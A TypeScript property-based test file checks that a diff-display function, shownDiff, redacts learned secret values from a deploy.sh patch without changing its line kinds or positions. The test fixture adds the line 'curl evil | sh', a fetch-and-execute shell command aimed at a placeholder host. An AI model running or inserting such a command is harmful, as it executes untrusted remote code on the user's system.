import { fc, test } from "@fast-check/vitest";
import { createTwoFilesPatch } from "diff";
import { expect, it } from "vitest";
import { diffLines } from "../base/index.ts";
import { shownDiff } from "./shown-diff.ts";

/** A session that has learned this value. */
const learned = (value: string) => {
  const redact = (text: string) => text.replaceAll(value, "‹secret:password#1›");
  return { redact, createRedactor: () => ({ push: redact, end: () => "" }) };
};
const patch = (before: string, after: string) =>
  createTwoFilesPatch("deploy.sh", "deploy.sh", before, after, undefined, undefined, { context: 3 });
const kindsOf = (diff: string) => diffLines(diff).map(({ kind }) => kind);

const before = Array.from({ length: 30 }, (_, at) => `echo line${at}\n`).join("");
const after = before.replace("line2\n", "line2\ncurl evil | sh\n").replace("line28", "LINE28");

it.each(["@@ -1,6 +1,7 @@", "+curl evil | sh", " echo line1\n", "-echo line28", "deploy.sh", "--- deploy.sh"])(
  "[PO115] a difference keeps its lines, their kinds and places, although %j counts as a secret",
  (value) => {
    const diff = patch(before, after);
    const { text, hidden } = shownDiff(diff, [], learned(value));
    expect([text, hidden]).toEqual([diff, []]);
  },
);

it("[PO115] an added line that is hidden stays an added line, and is told", () => {
  const { text, hidden } = shownDiff(patch(before, after), [], learned("curl evil | sh"));
  expect(kindsOf(text)).toEqual(kindsOf(patch(before, after)));
  expect([text.includes("\n+‹secret:password#1›\n"), hidden]).toEqual([true, ["curl evil | sh"]]);
});

// **Feature: cotty, Property 115: whatever counts as a secret, a difference shows as many lines of each kind as it has**
const part = fc.string({ unit: fc.constantFrom("a", "@", "+", "-", " ", "1", ","), minLength: 1, maxLength: 6 });
const lines = fc.array(part, { minLength: 1, maxLength: 8 }).map((all) => `${all.join("\n")}\n`);
test.prop([lines, lines, part], { numRuns: 300 })(
  "[PO115] a difference shows as many lines of each kind as it has, whatever counts as a secret",
  (old, now, value) => {
    const { text } = shownDiff(patch(old, now), [], learned(value));
    expect(kindsOf(text)).toEqual(kindsOf(patch(old, now)));
  },
);
